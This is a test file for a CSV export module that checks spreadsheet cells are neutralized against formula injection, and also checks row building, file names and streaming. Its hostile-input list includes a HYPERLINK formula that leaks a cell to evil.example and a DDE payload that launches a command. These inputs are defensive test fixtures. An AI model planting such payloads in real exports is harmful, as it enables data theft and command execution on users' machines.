import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import type { RecipientRecord } from '../../functions/domain/campaign';
import type { ConversationMessage } from '../../functions/domain/conversation';
import { isFormulaLike, neutralizeCell } from '../../functions/domain/csv-cells';
import {
  type CsvRow,
  csvText,
  exportFilename,
  MESSAGE_HEADER,
  messageRow,
  recipientColumns,
  recipientRow,
} from '../../functions/domain/csv-export';
import { csvStream } from '../../functions/http/csv-response';

const parsed = (text: string): string[][] => parse(text, { bom: true, relax_column_count: false });

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click me")',
  "=cmd|'/c calc'!A1",
  '+1+1',
  '-2',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '+49 151 12345678',
  '+A1',
  '+123',
];

const HARMLESS = [
  '',
  'Anna',
  'Grüße aus Köln 👋',
  '日本語のテキスト',
  'مرحبا',
  'a=b',
  'x+1',
  ' =1+1 (a space first)',
  "it's fine",
  '+4915112345678',
  '+14155550101',
  'wamid.HBgLMTQxNTU1NTAxMDEVAgARGBI',
  '2026-12-01T10:00:00.000Z',
];

describe('the spreadsheet cell rule', () => {
  it.each(HOSTILE)('prefixes %j with a quote', (cell) => {
    expect(isFormulaLike(cell)).toBe(true);
    expect(neutralizeCell(cell)).toBe(`'${cell}`);
  });

  it.each(HARMLESS)('leaves %j as it is', (cell) => {
    expect(isFormulaLike(cell)).toBe(false);
    expect(neutralizeCell(cell)).toBe(cell);
  });

  it('leaves only a bare E.164 number unprefixed among cells starting with +', () => {
    expect(neutralizeCell('+4915112345678')).toBe('+4915112345678');
    // Too short or too long for E.164, a leading zero, or anything after the digits.
    for (const cell of [
      '+123456',
      '+1234567890123456',
      '+04915112345678',
      '+4915112345678+1',
      '+4915112345678 ',
    ])
      expect(neutralizeCell(cell)).toBe(`'${cell}`);
  });
});

describe('the CSV writer', () => {
  it('writes hostile cells, quotes, commas, new lines and unicode so they parse back exactly (prefixed)', () => {
    const rows: CsvRow[] = [
      ['name', 'value'],
      ...HOSTILE.map((h, i) => [`hostile ${i}`, h]),
      ...HARMLESS.map((h, i) => [`harmless ${i}`, h]),
      ['quotes', 'She said "hi", then left'],
      ['commas', 'a,b,,c'],
      ['new lines', 'line one\nline two\r\nline three'],
      ['formula with quotes and lines', '=IF(A1="x",\n"y")'],
      ['emoji', '🎉 Launch, "now"'],
    ];
    const text = csvText(rows);
    expect(parsed(text)).toEqual(rows.map((r) => r.map(neutralizeCell)));
    // Every neutralized cell is quoted, so the quote character is inside the field, not before it.
    expect(text).toContain('"\'-2"');
    expect(text).toContain('"\'+1+1"');
    expect(text).toContain('"\'@SUM(A1:A9)"');
    expect(text).toContain('"\'=HYPERLINK(""https://evil.example/?""&A1,""Click me"")"');
    // Plain cells stay bare; rows end with CRLF.
    expect(text.startsWith('name,value\r\n')).toBe(true);
    expect(text).toContain('\r\nharmless 9,+4915112345678\r\n');
    expect(text.endsWith('\r\n')).toBe(true);
  });

  it('round-trips any text, and no cell it writes can be read as a formula', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 4 }), {
          minLength: 1,
          maxLength: 5,
        }),
        (cells) => {
          const width = cells[0]!.length;
          const rows = cells.map((r) => Array.from({ length: width }, (_, i) => r[i] ?? ''));
          const back = parsed(csvText(rows));
          expect(back).toEqual(rows.map((r) => r.map(neutralizeCell)));
          for (const row of back) for (const cell of row) expect(isFormulaLike(cell)).toBe(false);
        },
      ),
      { numRuns: 300 },
    );
  });

  it('neutralizes the header too', () => {
    expect(parsed(csvText([['=evil', 'ok']]))).toEqual([["'=evil", 'ok']]);
  });
});

const recipient = (over: Partial<RecipientRecord>): RecipientRecord => ({
  campaignId: 'c1',
  phone: '+4915112345678',
  bucket: 0,
  variables: {},
  status: 'sent',
  attempts: 1,
  updatedAt: '2026-12-01T10:00:00.000Z',
  ...over,
});

describe('the recipient rows', () => {
  it("heads the union of the variables, the template's first, and renames one that takes a fixed name", () => {
    const columns = recipientColumns(
      ['zeta', 'customerName', 'status', 'alpha', 'code'],
      ['code', 'customerName'],
    );
    expect(columns.variables).toEqual(['code', 'customerName', 'alpha', 'status', 'zeta']);
    expect(columns.header).toEqual([
      'phone',
      'status',
      'code',
      'customerName',
      'alpha',
      'variables.status',
      'zeta',
      'errorCode',
      'errorTitle',
      'skipReason',
      'attempts',
      'updatedAt',
      'wamid',
    ]);
  });

  it('fills each column, with the error of a failed recipient only', () => {
    const columns = recipientColumns(['customerName', 'code']);
    const failed = recipient({
      status: 'failed',
      attempts: 3,
      variables: { customerName: '=HYPERLINK("x")' },
      lastError: { code: 131026, title: 'Message undeliverable' },
    });
    expect(recipientRow(failed, columns)).toEqual([
      '+4915112345678',
      'failed',
      '',
      '=HYPERLINK("x")',
      '131026',
      'Message undeliverable',
      '',
      '3',
      '2026-12-01T10:00:00.000Z',
      '',
    ]);
    const retrying = recipient({ status: 'queued', lastError: { code: 130429, title: 'Rate limit' } });
    expect(recipientRow(retrying, columns).slice(4, 6)).toEqual(['', '']);
    const skipped = recipient({ status: 'skipped', skipReason: 'opted_out', wamid: 'wamid.X' });
    expect(recipientRow(skipped, columns).slice(6)).toEqual([
      'opted_out',
      '1',
      '2026-12-01T10:00:00.000Z',
      'wamid.X',
    ]);
  });
});

describe('the message rows', () => {
  it('gives the text (or the summary), the delivery status and the agent', () => {
    const base: ConversationMessage = {
      contact: '+4915112345678',
      wamid: 'wamid.A',
      direction: 'out',
      at: '2026-12-01T10:00:00.000Z',
      type: 'text',
      text: 'Hi',
      summary: 'Hi',
      source: 'agent',
      agent: { id: 'u1', name: 'Bea Agent' },
      delivery: { status: 'delivered', at: '2026-12-01T10:00:01.000Z' },
    };
    expect(MESSAGE_HEADER).toEqual(['at', 'direction', 'type', 'text', 'status', 'wamid', 'source', 'agent']);
    expect(messageRow(base)).toEqual([
      '2026-12-01T10:00:00.000Z',
      'out',
      'text',
      'Hi',
      'delivered',
      'wamid.A',
      'agent',
      'Bea Agent',
    ]);
    const { text: _t, agent: _a, delivery: _d, ...image } = base;
    expect(
      messageRow({ ...image, direction: 'in', type: 'image', summary: '[image]', source: 'customer' }),
    ).toEqual(['2026-12-01T10:00:00.000Z', 'in', 'image', '[image]', '', 'wamid.A', 'customer', '']);
  });
});

describe('the export file name', () => {
  it('keeps only safe characters', () => {
    expect(exportFilename('campaign', '01JABC', 'recipients')).toBe('campaign-01JABC-recipients.csv');
    expect(exportFilename('conversation', '+4915112345678', 'messages')).toBe(
      'conversation-4915112345678-messages.csv',
    );
    expect(exportFilename('x', '"; evil=1', 'y')).toBe('x-evil_1-y.csv');
  });
});

describe('the CSV stream', () => {
  // Kept in the text, so the tests see it (a decoder drops it by default).
  const decoder = () => new TextDecoder('utf-8', { ignoreBOM: true });
  async function readAll(stream: ReadableStream<Uint8Array>): Promise<string> {
    return decoder().decode(await new Response(stream).arrayBuffer());
  }

  it('asks for a page only when the reader takes the one before, so 100,000 rows stay one page', async () => {
    let produced = 0;
    let finished = false;
    async function* pages() {
      try {
        yield [['n', 'value']];
        for (let page = 0; page < 100; page++) {
          produced += 1;
          yield Array.from({ length: 1000 }, (_, i) => [
            String(page * 1000 + i),
            i % 7 === 0 ? '-oops' : 'x',
          ]);
        }
      } finally {
        finished = true;
      }
    }
    const reader = csvStream(pages(), csvText).getReader();
    const first = await reader.read();
    expect(decoder().decode(first.value)).toBe('\uFEFFn,value\r\n');
    await new Promise((r) => setTimeout(r, 20));
    // The header was read; at most a page or two are ready ahead of the reader.
    expect(produced).toBeLessThanOrEqual(2);
    await reader.read();
    await new Promise((r) => setTimeout(r, 20));
    expect(produced).toBeLessThanOrEqual(3);
    await reader.cancel();
    expect(finished).toBe(true);
    expect(produced).toBeLessThan(100);
  });

  it('writes every row of every page, with a byte order mark first', async () => {
    async function* pages() {
      yield [['n', 'value']];
      yield [];
      for (let page = 0; page < 100; page++)
        yield Array.from({ length: 1000 }, (_, i) => [String(page * 1000 + i), i % 7 === 0 ? '-oops' : 'x']);
    }
    const text = await readAll(csvStream(pages(), csvText));
    expect(text.charCodeAt(0)).toBe(0xfeff);
    const rows = parsed(text);
    expect(rows).toHaveLength(100_001);
    expect(rows[1]).toEqual(['0', "'-oops"]);
    expect(rows[100_000]).toEqual(['99999', 'x']);
  });

  it('fails the download when a page cannot be read, rather than ending it short', async () => {
    const seen: unknown[] = [];
    async function* pages() {
      yield [['n']];
      throw new Error('store down');
    }
    await expect(readAll(csvStream(pages(), csvText, (e) => seen.push(e)))).rejects.toThrow('store down');
    expect(seen).toHaveLength(1);
  });
});
